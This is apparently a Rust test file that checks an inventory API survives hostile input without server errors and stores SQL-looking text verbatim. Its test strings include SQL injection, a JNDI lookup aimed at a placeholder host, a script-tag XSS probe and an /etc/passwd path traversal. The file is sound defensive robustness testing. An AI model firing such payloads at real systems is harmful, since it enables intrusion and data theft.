//! Hostile text — NUL bytes, control characters, huge unicode, SQL and markup — in bodies, paths and
//! queries: refused or stored verbatim, never a server error.

use crate::support::{encode, spawn_app, USER_PASSWORD};
use axum::http::{Method, StatusCode};
use serde_json::json;

#[tokio::test]
async fn hostile_strings_never_cause_a_server_error() {
    let app = spawn_app().await;
    let region = app.ci(json!({"kind": "region", "name": "eu"})).await;
    let hostile = [
        "\u{0}".to_owned(),
        "a\u{0}b".to_owned(),
        "\u{1b}[31mred\u{1b}[0m".to_owned(),
        "line\nbreak".to_owned(),
        "\u{202e}gnp.exe".to_owned(),
        "\u{feff}bom".to_owned(),
        "'; DROP TABLE cis; --".to_owned(),
        "Robert'); DROP TABLE users;--".to_owned(),
        "%".to_owned(),
        "_\\%".to_owned(),
        "${jndi:ldap://example.invalid/a}".to_owned(),
        "<script>alert(1)</script>".to_owned(),
        "../../etc/passwd".to_owned(),
        "😀".repeat(128),
        "😀".repeat(5000),
        "ß".repeat(40_000),
    ];
    for (i, s) in hostile.iter().enumerate() {
        let name = format!("svc-{i}");
        let mut attempts = vec![
            (Method::POST, "/api/v1/cis".to_owned(), Some(json!({"kind": "service", "name": s}))),
            (Method::POST, "/api/v1/cis".to_owned(), Some(json!({"kind": "service", "name": name, "description": s}))),
            (Method::POST, "/api/v1/cis".to_owned(), Some(json!({"kind": "datacenter", "name": "dc", "parent_id": s}))),
            (Method::PUT, format!("/api/v1/cis/{region}"), Some(json!({"kind": "region", "name": "eu", "state": s}))),
            (Method::POST, "/api/v1/users".to_owned(), Some(json!({"username": s, "password": USER_PASSWORD}))),
            (Method::POST, "/api/v1/groups".to_owned(), Some(json!({"name": s}))),
        ];
        // A URI holds at most 64 KiB; longer text only travels in bodies.
        if s.len() < 10_000 {
            let e = encode(s);
            attempts.extend([
                (Method::GET, format!("/api/v1/cis/{e}"), None),
                (Method::GET, format!("/api/v1/groups/{e}"), None),
                (Method::DELETE, format!("/api/v1/auth/tokens/{e}"), None),
                (Method::GET, format!("/api/v1/cis?q={e}"), None),
                (Method::GET, format!("/api/v1/cis?parent_id={e}&state={e}"), None),
                (Method::GET, format!("/api/v1/relations?ci_id={e}"), None),
                (Method::GET, format!("/api/v1/users?q={e}"), None),
                (Method::GET, format!("/api/v1/groups?q={e}"), None),
                (Method::GET, format!("/api/v1/audit?actor={e}&request_id={e}"), None),
            ]);
        }
        for (method, path, body) in attempts {
            let sent: String = format!("{body:?}").chars().take(120).collect();
            let r = app.send(method.clone(), &path, Some(&app.admin_token), body).await;
            assert!(
                r.status.is_success() || r.status.is_client_error(),
                "{method} {path:.80} {sent}: {} {}",
                r.status,
                r.body
            );
            if !r.status.is_success() {
                r.error_code();
            }
        }
        let sign_in = json!({"username": s, "password": s});
        let r = app.send(Method::POST, "/api/v1/auth/tokens", None, Some(sign_in)).await;
        r.assert_error(StatusCode::UNAUTHORIZED, "unauthorized");
    }
}

#[tokio::test]
async fn an_over_long_search_text_is_a_4xx_not_a_server_error() {
    let app = spawn_app().await;
    let q = "a".repeat(60_000);
    for path in ["/api/v1/cis", "/api/v1/users", "/api/v1/groups"] {
        let r = app.get(&format!("{path}?q={q}"), &app.admin_token).await;
        assert!(r.status.is_client_error(), "{path}?q=a×60000: {} {}", r.status, r.body);
        r.error_code();
    }
}

#[tokio::test]
async fn sql_looking_text_is_stored_verbatim() {
    let app = spawn_app().await;
    let name = "'; DROP TABLE cis; --";
    let id = app.ci(json!({"kind": "service", "name": name, "description": "x' OR '1'='1"})).await;
    let ci = app.get(&format!("/api/v1/cis/{id}"), &app.admin_token).await.body;
    assert_eq!(ci["name"], name);
    assert_eq!(ci["description"], "x' OR '1'='1");
    let found = app.get(&format!("/api/v1/cis?q={}", encode("drop table")), &app.admin_token).await.body;
    assert_eq!(found["total"], 1, "{found}");
    assert_eq!(found["items"][0]["name"], name);
    let none = app.get(&format!("/api/v1/cis?q={}", encode("' OR '1'='1")), &app.admin_token).await.body;
    assert_eq!(none["total"], 0, "{none}");
}
